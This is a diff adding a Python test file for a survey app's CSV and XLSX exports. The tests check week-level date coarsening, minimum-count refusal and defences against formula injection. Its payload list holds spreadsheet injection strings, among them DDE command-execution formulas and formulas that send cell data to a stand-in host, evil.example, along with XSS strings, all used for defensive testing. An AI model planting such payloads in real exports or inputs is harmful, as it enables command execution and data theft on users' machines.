@@ -1,0 +1,214 @@
+"""Exports: nothing finer than the week, only for k or more responses, and safe against formula injection."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import uuid
+from datetime import date, timedelta
+
+import pytest
+from openpyxl import load_workbook
+
+from tests.store.manager.conftest import add, add_quadrants, answers_for, empty_store, hash_code
+from trp_core.method.scoring import score
+from trp_core.method.vocabulary import Quadrant
+from trp_core.presentation import dashboard_charts as charts
+from trp_core.services import analytics as an
+from trp_core.services import export
+
+# Cells a spreadsheet could run as a formula, and other hostile text (OWASP's CSV injection list and more).
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+    '=WEBSERVICE("http://evil.example/")',
+    '=IMAGE("http://evil.example/x.png")',
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")',
+    "=1+1;=2+2",
+    "=A1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "'=already quoted",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click me](https://evil.example)",
+    "![pixel](https://evil.example/p.png)",
+    'Normal text, with a comma; and a "quote"',
+    "=1+1\x07\x1b with control characters",  # (PostgreSQL stores no NUL in JSON)
+    "-5",
+    "+49 170 1234567",
+]
+assert len(PAYLOADS) >= 30
+
+
+@pytest.fixture(scope="module")
+def hostile(engine, surveys):
+    """One response per payload, the payload in both text answers and (when short) as the event tag."""
+    store = empty_store(engine)
+    survey = surveys["trp-standard"]
+    base = answers_for(survey.id, "kandidat")
+    for i, payload in enumerate(PAYLOADS):
+        answers = {**base, "what_would_help": payload, "remarks": payload[::-1]}
+        store.save_response(
+            survey=survey,
+            assessment=score(survey, answers),
+            answers=answers,
+            lang="de" if i % 2 else "en",
+            event=payload if len(payload) <= 64 and i % 3 == 0 else None,
+            submission_key=uuid.uuid4().hex,
+            code_hash=hash_code(uuid.uuid4().hex),
+            day=date(2025, 1, 1) + timedelta(days=i),
+        )
+    return survey
+
+
+def dangerous(text: str) -> bool:
+    return text.lstrip(" ").startswith(export.DANGEROUS)
+
+
+def test_safe_text_rules():
+    for payload in PAYLOADS:
+        safe = export.safe_text(payload)
+        clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload)
+        if dangerous(clean):
+            assert safe == "'" + clean
+        else:
+            assert safe == clean
+    assert export.safe_cell(-5) == -5 and export.safe_cell(73.4) == 73.4
+    assert export.safe_cell(True) == "yes" and export.safe_cell(None) is None
+    assert export.safe_cell("-5") == "'-5"
+
+
+def test_csv_is_safe_and_numbers_stay_numbers(engine, hostile):
+    data = export.responses_csv(engine, an.Filters(survey=hostile.id), [hostile], k=5)
+    text = data.decode("utf-8-sig")
+    assert not re.search(r"\d{4}-\d{2}-\d{2}", text), "no date finer than the week"
+    rows = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(PAYLOADS)
+    assert header[:5] == ["survey", "version", "language", "event", "iso_week"]
+    assert "day" not in header and "id" not in header and "code_hash" not in header
+    col = {name: i for i, name in enumerate(header)}
+    assert {"what_would_help", "remarks", "kann_score", "quadrant"} <= set(col)
+    for row in body:
+        for value in row:
+            if isinstance(value, str):
+                assert not dangerous(value), f"unsafe cell {value!r}"
+        assert re.fullmatch(r"\d{4}-W\d{2}", row[col["iso_week"]])
+        assert isinstance(row[col["kann_score"]], float)  # unquoted: a number to the spreadsheet
+        assert isinstance(row[col["c_staff"]], float)
+    written = sorted(row[col["what_would_help"]] for row in body)
+    expected = sorted(export.safe_text(p) for p in PAYLOADS)
+    assert written == expected
+    # Ordered by week, so the order within a week says nothing about the day.
+    weeks = [row[col["iso_week"]] for row in body]
+    assert weeks == sorted(weeks)
+
+
+def test_xlsx_has_no_formula_and_numbers_stay_numbers(engine, hostile):
+    data = export.responses_xlsx(engine, an.Filters(survey=hostile.id), [hostile], k=5)
+    ws = load_workbook(io.BytesIO(data)).active
+    rows = list(ws.iter_rows())
+    header = [c.value for c in rows[0]]
+    col = {name: i for i, name in enumerate(header)}
+    assert len(rows) == len(PAYLOADS) + 1
+    texts = []
+    for row in rows:
+        for c in row:
+            assert c.data_type != "f", f"formula in {c.coordinate}: {c.value!r}"
+            if isinstance(c.value, str):
+                assert not dangerous(c.value), f"unsafe cell {c.coordinate}: {c.value!r}"
+    for row in rows[1:]:
+        assert isinstance(row[col["kann_score"]].value, int | float)
+        assert row[col["kann_score"]].data_type == "n"
+        assert isinstance(row[col["break_even_month"]].value, int)
+        texts.append(row[col["what_would_help"]].value)
+    # XML reads a carriage return as a line feed.
+    assert sorted(texts) == sorted(export.safe_text(p).replace("\r", "\n") for p in PAYLOADS)
+
+
+def test_free_text_only_for_at_least_10_responses(store, standard):
+    answers = {**answers_for(standard.id, "held"), "what_would_help": "=1+1"}
+    add(store, standard, answers, 9)
+    f = an.Filters(survey=standard.id)
+    header, rows = export.response_rows(store.engine, f, [standard], k=5)
+    assert "what_would_help" not in header and "remarks" not in header
+    assert len(list(rows)) == 9
+    add(store, standard, answers, 1)
+    header, rows = export.response_rows(store.engine, f, [standard], k=5)
+    assert "what_would_help" in header
+    assert {r[header.index("what_would_help")] for r in rows} == {"'=1+1"}
+
+
+def test_no_export_under_k(store, standard):
+    add_quadrants(store, standard, {Quadrant.HELD: 4})
+    with pytest.raises(export.ExportRefused) as refused:
+        export.responses_csv(store.engine, an.Filters(survey=standard.id), [standard], k=5)
+    assert refused.value.reason == "too_small"
+    with pytest.raises(export.ExportRefused):
+        export.responses_xlsx(store.engine, an.Filters(survey=standard.id), [standard], k=5)
+    assert export.responses_csv(store.engine, an.Filters(survey=standard.id), [standard], k=3)
+    with pytest.raises(export.ExportRefused) as refused:
+        export.response_rows(store.engine, an.Filters(survey=standard.id), [standard], k=3, limit=3)
+    assert refused.value.reason == "too_big"
+
+
+def test_dashboard_tables_and_charts(store, standard):
+    add_quadrants(store, standard, {Quadrant.HELD: 4, Quadrant.KANDIDAT: 12, Quadrant.SCHATTEN: 9})
+    dash = an.dashboard(store.engine, an.Filters(survey=standard.id), standard, k=5)
+    tables = export.dashboard_tables(dash, standard, "en")
+    assert set(tables) == {"quadrants", "heat", "trend", "keep_out", "means", "break_even", "funnel"}
+    rows = list(csv.reader(io.StringIO(export.table_csv(tables["quadrants"]).decode("utf-8-sig"))))
+    assert rows[0] == ["Quadrant", "Count", "Share"]
+    assert rows[1][:2] == ["Hero", "–"]  # 4: hidden
+    assert rows[2][:2] == ["Candidate", "12"]
+    hostile = (["=label"], [["=1+1", 3, None]])
+    assert export.table_csv(hostile).decode("utf-8-sig").splitlines() == ['"\'=label"', '"\'=1+1",3,""']
+    png = export.chart_png(charts.heatmap_chart(dash, standard, "de", width=500))
+    assert png.startswith(b"\x89PNG")
+
+
+def test_every_dashboard_chart_is_a_valid_vega_lite_spec(store, standard):
+    """Charts are made without Altair's validation at run time (trp_core.presentation.charts): their specs are
+    checked against the Vega-Lite schema here, in both languages, with hidden and shown cells."""
+    add_quadrants(
+        store, standard, {Quadrant.HELD: 4, Quadrant.KANDIDAT: 12, Quadrant.VAMPIR: 6, Quadrant.SCHATTEN: 9}
+    )
+    f = an.Filters(survey=standard.id)
+    dash = an.dashboard(store.engine, f, standard, k=5)
+    revised = standard.revised(thresholds={"kann": 45, "will": 70})
+    cal = an.calibrate(store.engine, f, standard, revised, k=3)
+    assert dash.quadrants[Quadrant.HELD] is None and dash.quadrants[Quadrant.KANDIDAT] == 12
+    for lang in ("de", "en"):
+        made = [
+            charts.heatmap_chart(dash, standard, lang),
+            charts.trend_chart(dash, standard, lang),
+            charts.keep_out_chart(dash, lang),
+            charts.break_even_chart(dash, lang),
+            charts.funnel_chart(dash, standard, lang),
+            charts.means_chart(dash, standard, lang),
+            charts.calibration_chart(cal, standard, lang),
+        ]
+        for chart in made:
+            spec = chart.to_dict(validate=True)  # raises on a spec the schema rejects
+            assert spec["$schema"].startswith("https://vega.github.io/schema/vega-lite/")
